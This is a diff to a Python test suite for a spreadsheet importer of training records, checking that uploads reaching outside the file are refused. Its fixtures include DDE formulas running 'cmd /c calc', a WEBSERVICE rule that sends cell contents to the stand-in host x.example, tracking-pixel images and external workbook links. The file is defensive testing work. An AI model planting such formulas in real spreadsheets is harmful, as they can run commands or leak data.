@@ -71,8 +71,10 @@ def test_external_links_dde_and_formulas_into_another_workbook_are_refused_namin
     assert cells["Trainings!H4"].expected.startswith("a value, not a DDE formula")
     assert cells["Trainings!F3"].expected.startswith("a value, not a DDE formula")  # [2] is the DDE link part
     parts = [str(p) for p in report.errors if not p.cell]
-    assert any("a link to another workbook (file:///C:/Budget/rates.xlsx)" in p for p in parts)
-    assert any("a DDE link asking another program for data (cmd /c calc)" in p for p in parts)
+    assert any("a link to another workbook (file:///C:/Budget/rates.xlsx, in xl/externalLinks/externalLink1.xml)"
+               in p for p in parts)
+    assert any("a DDE link asking another program for data (cmd /c calc, in xl/externalLinks/externalLink2.xml)"
+               in p for p in parts)
 
 
 def test_a_link_part_no_cell_uses_still_refuses_the_upload(db, settings):
@@ -89,7 +91,8 @@ def test_formulas_fetching_from_outside_and_data_connections_are_refused(db, set
     report = refused(db, settings, data)
     [cell] = [p for p in report.errors if p.cell]
     assert cell.where == "Trainings!J2" and "fetching data from outside the workbook (WEBSERVICE)" in cell.expected
-    assert any("data connections to outside sources (Rates feed)" in str(p) for p in report.errors)
+    assert any("data connections to outside sources (Rates feed, in xl/connections.xml)" in str(p)
+               for p in report.errors)
 
 
 def test_a_formula_without_a_saved_result_in_a_column_read_is_refused_naming_its_cells(db, settings):
@@ -145,4 +148,183 @@ def test_an_ods_with_a_dde_link_is_refused(db, settings):
                             ("content.xml", *hostile.deflated(content))])
     report = import_file(db, data, "linked.ods", settings=settings, programme="KEC", uploaded_by="olivier")
     assert report.outcome == "refused"
-    assert str(report.errors[0]).startswith("the spreadsheet holds DDE links or formulas reading other files")
+    assert [str(p) for p in report.errors] == [
+        ("S!A1: found '=DDE(\"cmd\";\"/c calc\";\"A0\")'; expected a value, not a DDE formula asking another "
+         "program for data; paste the cells as values")]
+
+
+# --- reaching outside from anywhere: found by what a part is, whatever the quoting ----------------------------
+
+LINK_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
+LINK_CONTENT = b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+
+
+@pytest.mark.parametrize("declared", ["relationship and content type", "relationship", "content type"])
+def test_an_external_link_part_anywhere_is_found_by_what_it_is(db, settings, declared):
+    """Excel finds an external link through the workbook's relationship (and knows it by its content type),
+    wherever the part is: here xl/other/link1.xml."""
+    data = workbook({"F2": "=[1]Rates!B2"}, cached={"F2": "Victim identification"})
+
+    def rels(xml: bytes) -> bytes:
+        return xml.replace(b"</Relationships>", b'<Relationship Type="' + LINK_TYPE + b'" Target="other/link1.xml" '
+                           b'Id="rId91"/></Relationships>') if "relationship" in declared else xml
+
+    def types(xml: bytes) -> bytes:
+        return xml.replace(b"</Types>", b'<Override PartName="/xl/other/link1.xml" ContentType="' + LINK_CONTENT
+                           + b'"/></Types>') if "content type" in declared else xml
+
+    def book(xml: bytes) -> bytes:
+        return xml.replace(b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.'
+                           b'openxmlformats.org/officeDocument/2006/relationships" r:id="rId91"/></externalReferences>')
+
+    data = hostile.patch_workbook(data, replace={"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types,
+                                                 "xl/workbook.xml": book},
+                                  add={"xl/other/link1.xml": hostile.EXTERNAL_LINK,
+                                       "xl/other/_rels/link1.xml.rels": hostile.EXTERNAL_LINK_RELS})
+    report = refused(db, settings, data)
+    assert any(str(p) == "the workbook holds a link to another workbook (file:///C:/Budget/rates.xlsx, in "
+                         "xl/other/link1.xml); break the link (Data ▸ Edit Links ▸ Break Link, which keeps the "
+                         "values) and upload it again" for p in report.errors), report.as_text()
+    assert [p.where for p in report.errors if p.cell] == ["Trainings!F2"]
+
+
+def test_a_formula_reaching_out_from_a_conditional_format_or_a_data_validation_is_refused(db, settings):
+    rules = (b'<conditionalFormatting sqref="F2:F4"><cfRule type="expression" priority="1" dxfId="0"><formula>'
+             b'LEN(WEBSERVICE("http://x.example/?"&amp;F2))&gt;0</formula></cfRule></conditionalFormatting>'
+             b'<dataValidations count="1"><dataValidation type="list" sqref="E2:E4"><formula1>[1]Lists!$A$1:$A$9'
+             b'</formula1></dataValidation></dataValidations>')
+
+    def sheet(xml: bytes) -> bytes:
+        return xml.replace(b"<pageMargins", rules + b"<pageMargins", 1)
+
+    data = hostile.patch_workbook(workbook({}), replace={"xl/worksheets/sheet1.xml": sheet})
+    report = refused(db, settings, data)
+    assert [(p.where, p.value) for p in report.errors] == [
+        ("Trainings!F2:F4", '=LEN(WEBSERVICE("http://x.example/?"&F2))>0'), ("Trainings!E2:E4", "=[1]Lists!$A$1:$A$9")]
+    assert report.errors[0].expected == ("a conditional formatting that stays inside the workbook, not one fetching "
+                                         "data from outside the workbook (WEBSERVICE); remove it (Home ▸ Conditional "
+                                         "Formatting ▸ Manage Rules) and upload it again")
+    assert report.errors[1].expected.startswith("a data validation that stays inside the workbook, not one reading "
+                                                "another workbook")
+
+
+def test_a_rule_in_excels_extension_list_is_read_too(db, settings):
+    ext = (b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/'
+           b'office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm='
+           b'"http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="2" '
+           b'id="{1}"><xm:f>_xlfn.IMAGE("https://x.example/pixel.png")</xm:f></x14:cfRule><xm:sqref>A2:A4'
+           b'</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>')
+    data = hostile.patch_workbook(workbook({}), replace={"xl/worksheets/sheet1.xml": lambda xml: xml.replace(
+        b"</worksheet>", ext + b"</worksheet>")})
+    [problem] = refused(db, settings, data).errors
+    assert problem.value == '=_xlfn.IMAGE("https://x.example/pixel.png")'
+    assert "(IMAGE)" in problem.expected and problem.sheet == "Trainings"
+
+
+def test_defined_names_reading_another_workbook_or_fetching_are_refused(db, settings):
+    names = (b'<definedNames><definedName name="Rates">\'C:\\Budget\\[rates.xlsx]Sheet1\'!$A$1</definedName>'
+             b'<definedName name="Feed">FILTERXML(WEBSERVICE("http://x.example"),"//a")</definedName>'
+             b'<definedName name="Districts">Trainings!$D$2:$D$4</definedName></definedNames>')
+    data = hostile.patch_workbook(workbook({}), replace={"xl/workbook.xml": lambda xml: xml.replace(
+        b"</sheets>", b"</sheets>" + names)})
+    report = refused(db, settings, data)
+    assert [(p.where, p.value) for p in report.errors] == [
+        ("name Rates", "='C:\\Budget\\[rates.xlsx]Sheet1'!$A$1"),
+        ("name Feed", '=FILTERXML(WEBSERVICE("http://x.example"),"//a")')]
+    assert str(report.errors[1]) == (
+        "name Feed: found '=FILTERXML(WEBSERVICE(\"http://x.example\"),\"//a\")'; expected a defined name that stays "
+        "inside the workbook, not one fetching data from outside the workbook (FILTERXML); remove it (Formulas ▸ "
+        "Name Manager) and upload it again")
+
+
+def test_an_image_formula_in_a_cell_is_refused(db, settings):
+    data = workbook({"J2": '=_xlfn.IMAGE("https://x.example/p.png")'}, cached={"J2": 0})
+    [problem] = refused(db, settings, data).errors
+    assert problem.where == "Trainings!J2" and "(IMAGE)" in problem.expected
+
+
+def test_a_picture_linked_from_outside_is_refused_naming_its_relationships_part(db, settings):
+    drawing_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                    b"package/2006/relationships\"><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/"
+                    b"officeDocument/2006/relationships/image' Target='https://x.example/pixel.png' "
+                    b"TargetMode = 'External'/></Relationships>")
+    data = workbook({}, extra={"xl/drawings/_rels/drawing1.xml.rels": drawing_rels,
+                               "xl/drawings/drawing1.xml": b"<wsDr/>"})
+    [problem] = refused(db, settings, data).errors
+    assert str(problem) == ("the workbook holds a picture linked from outside (https://x.example/pixel.png, in "
+                            "xl/drawings/_rels/drawing1.xml.rels), which reaches outside the file; remove it and "
+                            "upload it again")
+
+
+def test_hyperlinks_are_kept_they_fetch_nothing_until_clicked(db, settings):
+    sheet_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                  b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                  b'officeDocument/2006/relationships/hyperlink" Target="https://www.iom.int/" TargetMode="External"/>'
+                  b"</Relationships>")
+    data = workbook({"J2": '=HYPERLINK("https://www.iom.int/","IOM")'}, cached={"J2": "IOM"},
+                    extra={"xl/worksheets/_rels/sheet1.xml.rels": sheet_rels})
+    report = import_file(db, data, "links.xlsx", settings=settings, programme="KEC", uploaded_by="olivier")
+    assert report.outcome == "stored", report.as_text()
+
+
+def _ods_trainings(topic) -> list[list]:
+    header = ["Reference", "Project", "Start date", "District", "Target group", "Topic", "Female participants",
+              "Male participants"]
+    return [header, ["OD-1", "KEC", "12/03/2019", "Huye", "Police", topic, 12, 9],
+            ["OD-2", "KEC", "14/03/2019", "Gasabo", "Media", "Reporting on trafficking", 4, 6]]
+
+
+def _ods_refused(db, settings, data: bytes):
+    report = import_file(db, data, "linked.ods", settings=settings, programme="KEC", uploaded_by="olivier")
+    assert report.outcome == "refused" and count(db, "trainings") == 0
+    [upload] = uploads(db)
+    assert upload.kept_path is None
+    return report
+
+
+def test_an_ods_dde_formula_in_single_quotes_is_refused_not_read_as_its_saved_text(db, settings):
+    cell = (b"<table:table-cell table:formula='of:=DDE(\"cmd\";\"/c calc\";\"A0\")' office:value-type='string' "
+            b"office:string-value='Training'><text:p>Training</text:p></table:table-cell>")
+    report = _ods_refused(db, settings, hostile.ods(_ods_trainings(cell)))
+    assert [(p.where, p.value) for p in report.errors] == [("Trainings!F2", '=DDE("cmd";"/c calc";"A0")')]
+
+
+@pytest.mark.parametrize("where", ["validity", "conditional style", "named expression", "dde source", "linked table",
+                                   "linked picture"])
+def test_an_ods_reaching_out_from_anywhere_is_refused(db, settings, where):
+    parts = {
+        "validity": {"before_table": (
+            b"<table:content-validations><table:content-validation table:name='val1' table:condition='of:is-true-"
+            b"formula(WEBSERVICE(&quot;http://x.example&quot;))'/></table:content-validations>")},
+        "conditional style": {"styles": (
+            b"<office:styles><style:style style:name='Hot' style:family='table-cell'><style:map style:condition="
+            b"'is-true-formula(ORG.OPENOFFICE.WEBSERVICE(&quot;http://x.example&quot;))' style:apply-style-name="
+            b"'Bad'/></style:style></office:styles>")},
+        "named expression": {"after": (
+            b"<table:named-expressions><table:named-range table:name='Rates' table:base-cell-address="
+            b"'$Trainings.$A$1' table:cell-range-address=\"'file:///C:/Budget/rates.ods'#$Sheet1.$A$1\"/>"
+            b"</table:named-expressions>")},
+        "dde source": {"before_table": (
+            b"<table:dde-links><table:dde-link><office:dde-source office:name='calc' office:dde-application='cmd' "
+            b"office:dde-topic='/c calc' office:dde-item='A0'/></table:dde-link></table:dde-links>")},
+        "linked table": {"in_table": (
+            b"<table:table-source xlink:type='simple' xlink:href='https://x.example/rates.ods' "
+            b"table:table-name='Rates'/>")},
+        "linked picture": {"in_table": (
+            b"<table:shapes><draw:frame><draw:image xlink:href='https://x.example/p.png' xlink:type='simple'/>"
+            b"</draw:frame></table:shapes>")},
+    }[where]
+    report = _ods_refused(db, settings, hostile.ods(_ods_trainings("Victim identification"), **parts))
+    text = " ".join(str(p) for p in report.errors)
+    assert {"validity": "validity rule that stays inside", "conditional style": "(WEBSERVICE)",
+            "named expression": "(file:///C:/Budget/rates.ods)", "dde source": "a DDE link asking another program "
+            "for data (cmd /c calc, in content.xml)", "linked table": "a link to another workbook (https://x.example/"
+            "rates.ods, in content.xml)", "linked picture": "a linked image (https://x.example/p.png, in content.xml)",
+            }[where] in text, text
+
+
+def test_an_ods_without_links_is_read(db, settings):
+    report = import_file(db, hostile.ods(_ods_trainings("Victim identification")), "plain.ods", settings=settings,
+                         programme="KEC", uploaded_by="olivier")
+    assert report.outcome == "stored", report.as_text()
+    assert count(db, "trainings") == 2
